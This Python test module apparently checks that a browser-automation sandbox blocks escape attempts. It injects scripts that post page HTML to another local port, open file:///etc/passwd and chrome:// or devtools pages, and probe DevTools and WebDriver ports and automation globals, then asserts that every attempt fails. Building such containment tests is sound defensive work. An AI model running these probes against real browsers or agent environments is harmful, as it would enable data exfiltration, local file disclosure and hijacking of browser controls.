"""Attacks that reach out of the product: for other ports, for files of this machine, for the browser's own controls."""

from __future__ import annotations

import contextlib
import json
import socket
import threading
from collections.abc import Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any, Protocol

from bakeoff.core import Observation


class Way(Protocol):
    """How an attack gets at an open episode, whatever the software."""

    @property
    def browser_pid(self) -> int:
        """Process of the browser that the episode runs in."""

    def script(self, source: str) -> Any:
        """Runs script in the page; what it throws is its own affair."""

    def wait(self) -> Observation:
        """What is on the screen a moment later."""

    def nothing_changes(self, what: str) -> contextlib.AbstractContextManager[None]:
        """Asserts that the records say the same before and after."""


def _try_all(raid: Way, tries: Sequence[str]) -> None:
    """Runs each expression in the page, whatever comes of the others."""
    raid.script(
        f"""(async () => {{
            const tries = [{", ".join(f"() => {text}" for text in tries)}];
            for (const attempt of tries) {{ try {{ await Promise.race([attempt(), new Promise(done => setTimeout(done, 30))]); }} catch (error) {{ void error; }} }}
        }})()"""
    )


def _framed(address: str) -> str:
    return f"{{ const frame = document.createElement('iframe'); frame.src = '{address}'; document.body.append(frame); }}"


def other_ports(raid: Way) -> None:
    """A listener on another port of this machine must hear nothing."""
    with _listener() as (port, heard):
        outside = f"http://127.0.0.1:{port}"
        _try_all(
            raid,
            [
                f"fetch('{outside}/fetch', {{mode: 'no-cors', method: 'POST', body: document.documentElement.outerHTML}})",
                f"navigator.sendBeacon('{outside}/beacon', 'x')",
                f"new Promise(done => {{ const image = new Image(); image.onload = image.onerror = done; image.src = '{outside}/image'; }})",
                f"new WebSocket('ws://127.0.0.1:{port}/socket')",
                f"new EventSource('{outside}/events')",
                _framed(f"{outside}/frame"),
                f"import('{outside}/module.js')",
            ],
        )
        # A window is opened later, because evaluation and a new window wait for each other.
        raid.script(f"void setTimeout(() => window.open('{outside}/popup'))")
        raid.wait()
        raid.script(f"location.href = {json.dumps(f'{outside}/page')}")
        raid.wait()
        raid.script(
            f"(() => {{ const form = document.createElement('form'); form.method = 'post'; form.action = '{outside}/form'; document.body.append(form); form.submit(); }})()"
        )
        raid.wait()
        assert not heard, f"another port was reached by {', '.join(heard)}"


def local_files(raid: Way) -> None:
    """No file of this machine and no page of the browser's own may show up."""
    _try_all(
        raid,
        [
            "window.open('file:///etc/passwd')",
            "window.open('chrome://version')",
            "window.open('view-source:' + location.href)",
            "fetch('file:///etc/passwd')",
            _framed("file:///etc/passwd"),
        ],
    )
    seen = [raid.wait()]
    for address in ("file:///etc/passwd", "devtools://devtools/bundled/inspector.html", "chrome://version"):
        raid.script(f"location.href = {json.dumps(address)}")
        seen.append(raid.wait())
    for observation in seen:
        assert "root:x:0" not in observation.text, "a file of this machine is on the screen"
        inside = observation.location.startswith(("file:", "chrome:", "devtools:", "view-source:"))
        assert not inside, f"the browser went to {observation.location}"


def devtools(raid: Way) -> None:
    """The browser is driven by a pipe of ours: no process of it may listen on a port, and no page may find one that answers."""
    ports = _listening(raid.browser_pid)
    assert not ports, f"the browser listens on {', '.join(map(str, sorted(ports)))}"
    with raid.nothing_changes("a page that looks for the browser's own controls"):
        found = raid.script(
            """(async () => {
                const answers = [];
                for (const port of [9222, 9229, 9515, 4444]) {
                    for (const path of ['json/version', 'json/list', 'session']) {
                        try { answers.push(await (await fetch(`http://127.0.0.1:${port}/${path}`)).text()); } catch (error) { void error; }
                    }
                }
                for (const name of ['chrome', 'cdc', 'domAutomation', 'domAutomationController', 'callPhantom', '__playwright', '__puppeteer'])
                    for (const inner of ['debugger', 'devtools', 'send'])
                        if (window[name] && window[name][inner]) answers.push(name + '.' + inner);
                return answers.join('; ');
            })()"""
        )
        assert not found, f"a page finds {found[:200]}"


def _listening(pid: int) -> set[int]:
    """TCP ports on which a process or one of its children listens; empty where the system does not say (no `/proc`)."""
    family, parents = {pid}, dict[int, int]()
    for status in Path("/proc").glob("[0-9]*/stat"):
        with contextlib.suppress(OSError):  # it has ended meanwhile
            parents[int(status.parent.name)] = int(status.read_text().rpartition(")")[2].split()[1])
    while grown := {child for child, parent in parents.items() if parent in family and child not in family}:
        family |= grown
    sockets = set()
    for member in family:
        with contextlib.suppress(OSError):
            sockets |= {Path(item).readlink().name for item in Path(f"/proc/{member}/fd").iterdir() if item.is_symlink()}
    ports = set()
    for table in ("tcp", "tcp6"):
        with contextlib.suppress(OSError):
            for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
                cells = line.split()
                if cells[3] == "0A" and f"socket:[{cells[9]}]" in sockets:
                    ports.add(int(cells[1].rpartition(":")[2], 16))
    return ports


@contextlib.contextmanager
def _listener() -> Iterator[tuple[int, list[str]]]:
    """A server on a free loopback port that notes every request and every connection that says something."""
    heard: list[str] = []

    class Ear(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Ear)
    server.socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True)
    thread.start()
    try:
        yield server.server_address[1], heard
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)
